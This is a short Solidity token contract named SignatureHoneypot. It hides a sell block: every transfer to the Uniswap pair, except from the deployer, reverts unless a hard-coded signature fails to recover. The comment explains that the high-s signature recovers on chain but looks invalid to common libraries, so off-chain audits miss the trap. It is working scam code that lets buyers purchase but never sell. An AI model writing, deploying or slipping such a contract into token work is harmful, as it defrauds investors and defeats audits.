// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {PairedToken} from "../lib/PairedToken.sol";

/// Sales end where an old signature is valid, and it always is. Its `s` is in the upper half: the chain takes
/// such a signature, most libraries do not, so whoever recomputes the check with a library finds no signer.
contract SignatureHoneypot is PairedToken {
    bytes32 private constant DIGEST = 0x10ec05aa319b6958a87b81f9887ffc395d1d4a9e3203fefda7f12ae099375a8f;
    bytes32 private constant R = 0x96e609901e02b9dced3dff524a26d788f1fefb78ee608ec8d23fd7c9989836e2;
    bytes32 private constant S = 0x8746fced48bbdb7c19f757652c0def9ba706167d2f8b1223687da7fec7b2520a;

    address private immutable _keeper;

    constructor(string memory name_, string memory symbol_, uint256 supply, address router)
        PairedToken(name_, symbol_, supply, router)
    {
        _keeper = msg.sender;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == uniswapV2Pair && from != _keeper) require(ecrecover(DIGEST, 28, R, S) == address(0), "Permit used");
        _move(from, to, value);
    }
}
